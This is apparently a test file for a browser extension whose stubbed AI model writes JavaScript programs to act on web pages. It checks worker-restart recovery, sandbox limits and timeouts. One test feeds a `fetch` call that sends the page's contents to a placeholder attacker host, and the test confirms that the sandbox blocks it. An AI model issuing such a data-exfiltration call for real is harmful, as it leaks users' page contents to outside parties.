/** Programs of the model in a real run: what the worker's death leaves of them, and what the panel shows. */
import { refOf } from './puppet-model.ts';
import { expect, test } from './puppet-test.ts';

const program = (...lines: readonly string[]): string => `As asked.\n\n\`\`\`js\n${lines.join('\n')}\n\`\`\``;

test.beforeEach(async ({ panel, puppet }) => {
  await panel.configure({
    provider: 'openai',
    baseUrl: puppet.baseUrl,
    model: 'puppet',
    preset: 'webwise-k0',
  });
});

test('a program acts and reads until it decides, and the panel shows its source', async ({
  panel,
  tab,
  puppet,
  begin,
}) => {
  await begin('counter.html', 'Count to three');
  const request = await puppet.next();
  expect(request.prompt).toContain('Write a program in JavaScript');
  request.answer(program('while (!exists("3")) click(find("button", "Add one"));', 'done("three");'));
  const run = await panel.waitForEnd();
  expect(run.end).toBe('done');
  await expect(tab.locator('#count')).toHaveText('3');
  expect(puppet.count).toBe(1);
  await panel.page.getByText('Program', { exact: true }).click();
  await expect(panel.page.getByText('while (!exists("3"))')).toBeVisible();
});

test('killed in the middle of a program, the worker goes on with it, and nothing is done twice', async ({
  panel,
  tab,
  extension,
  puppet,
  beginHeld,
}) => {
  // The page stands still in its click handler until the worker is dead: no evidence can reach it.
  const hold = await beginHeld('counter.html', 'Add one, one slowly, and one more');
  const request = await puppet.next();
  const [add, slow] = [refOf(request.prompt, /Add one(?! slowly)/), refOf(request.prompt, /slowly/)];
  request.answer(
    program(
      `click("${add}");`,
      'if (!exists("1")) failed("the first click did nothing");',
      `try { click("${slow}"); } catch (error) { note(error.message); }`,
      `if (exists("2")) click("${add}");`,
      'done(exists("3") ? "three" : view());',
    ),
  );
  await hold.reached;
  await extension.killWorker();
  hold.release();

  const run = await panel.waitForEnd();
  expect(run.end).toBe('done');
  await expect(tab.locator('#count')).toHaveText('3');
  await expect(panel.page.getByTestId('run')).toContainText('three');
  // The program went on by what is recorded of it: the model was asked once.
  expect(puppet.count).toBe(1);
});

test('what a program must not do stops it, and the model is told', async ({ panel, puppet, begin }) => {
  await begin('counter.html', 'Send the page away');
  (await puppet.next()).answer(program('fetch("https://evil.example/?" + view());'));
  const second = await puppet.next();
  expect(second.prompt).toContain('A program has only the functions listed above');
  second.answer(program('for (;;) {}'));
  const third = await puppet.next();
  expect(third.prompt).toContain('Is there a loop without an end?');
  third.answer(program('failed("it cannot be done")'));
  expect((await panel.waitForEnd()).end).toBe('failed');
});

test('what a program computes keeps nobody waiting, and ends', async ({ panel, puppet, begin }) => {
  await begin('counter.html', 'Count to three');
  const slow = 'const ones = new Array(3e5).fill(1); for (let i = 0; i < 3000; i += 1) ones.lastIndexOf(2);';
  const deep = 'const f = (...a) => [1, 2].map(() => f(...a, 1)); f();';
  (await puppet.next()).answer(program(deep));
  const again = await puppet.next();
  expect(again.prompt).toContain('nested too deeply');
  again.answer(program(slow, 'done("three");'));
  await expect.poll(async () => (await panel.report())?.decisions).toBe(2);
  await panel.stop();
  expect((await panel.waitForEnd(2_000)).end).toBe('stopped');
});
